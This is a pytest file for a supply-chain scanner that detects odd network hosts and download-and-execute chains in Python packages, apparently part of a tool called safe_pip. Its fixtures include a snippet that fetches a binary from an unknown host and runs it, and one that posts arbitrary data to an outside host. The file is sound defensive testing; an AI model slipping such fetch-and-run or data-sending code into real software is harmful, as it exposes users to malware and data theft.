"""Hosts: which are common, and which stand out in a distribution."""

from __future__ import annotations

import pytest

from model.common_hosts import common_domains
from safe_pip.extractors import observe
from safe_pip.extractors.host_census import HostCensus
from safe_pip.extractors.hosts import is_common
from tests.sources import distribution_of

_SERVICE = "".join(
    f"import requests\ndef f{n}():\n    requests.get('https://{name}.example{n}.co/v1')\n"
    for n, name in enumerate(("api", "eu", "us", "auth"))
)
_DROP = "import requests\ndef g(x):\n    requests.post('https://metrics-sdk.co/in', json=x)\n"


def _odd_places(files: dict[str, str]) -> set[str]:
    found = observe(distribution_of(files))
    return {e.location.path for e in found if e.feature == "net_odd_host"}


def test_a_host_in_one_file_among_the_hosts_of_a_service_is_odd() -> None:
    files = {"demo/api.py": _SERVICE, "demo/models.py": _SERVICE, "demo/drop.py": _DROP}
    assert _odd_places(files) == {"demo/drop.py"}


def test_five_hundred_more_files_do_not_hide_it() -> None:
    files = {"demo/api.py": _SERVICE, "demo/models.py": _SERVICE, "demo/drop.py": _DROP}
    files |= {f"demo/more/m{n}.py": _SERVICE for n in range(500)}
    assert _odd_places(files) == {"demo/drop.py"}


def test_the_only_host_of_a_client_is_not_odd() -> None:
    assert _odd_places({"demo/drop.py": _DROP}) == set()


def test_a_file_counts_once_however_often_it_names_a_host() -> None:
    census = HostCensus()
    for data in (b"https://a.co https://b.co https://c.co https://d.co", b"https://a.co/ " * 9):
        census.see(data)
    assert not census.is_odd("a.co")
    assert census.is_odd("api.d.co")


@pytest.mark.parametrize(
    "host", ["api.github.com", "www.python.org", "sts.amazonaws.com", "docs.djangoproject.com"]
)
def test_hosts_that_many_projects_name_are_common(host: str) -> None:
    assert is_common(host)


@pytest.mark.parametrize("host", ["x.s3.amazonaws.com", "a.github.io", "some.example.co"])
def test_hosts_that_anybody_can_have_are_not(host: str) -> None:
    assert not is_common(host)


def test_a_host_is_common_if_three_projects_name_it() -> None:
    named = {"a": ["x.co", "y.co"], "b": ["x.co"], "c": ["x.co", "y.co"]}
    assert common_domains(named) == ["x.co"]


@pytest.mark.parametrize(
    ("host", "is_unknown"), [("cdn.metrics-sdk.co", True), ("dl.google.com", False)]
)
def test_a_program_from_a_host_that_nobody_uses_is_told_apart(host: str, is_unknown: bool) -> None:
    source = f"""\
        import os, subprocess, urllib.request
        def update():
            urllib.request.urlretrieve("https://{host}/agent", "agent.bin")
            subprocess.Popen(["./agent.bin"])
        """
    found = {e.feature for e in observe(distribution_of({"demo/a.py": source}))}
    assert "chain_net_write_exec" in found
    assert ("net_unknown_program" in found) is is_unknown
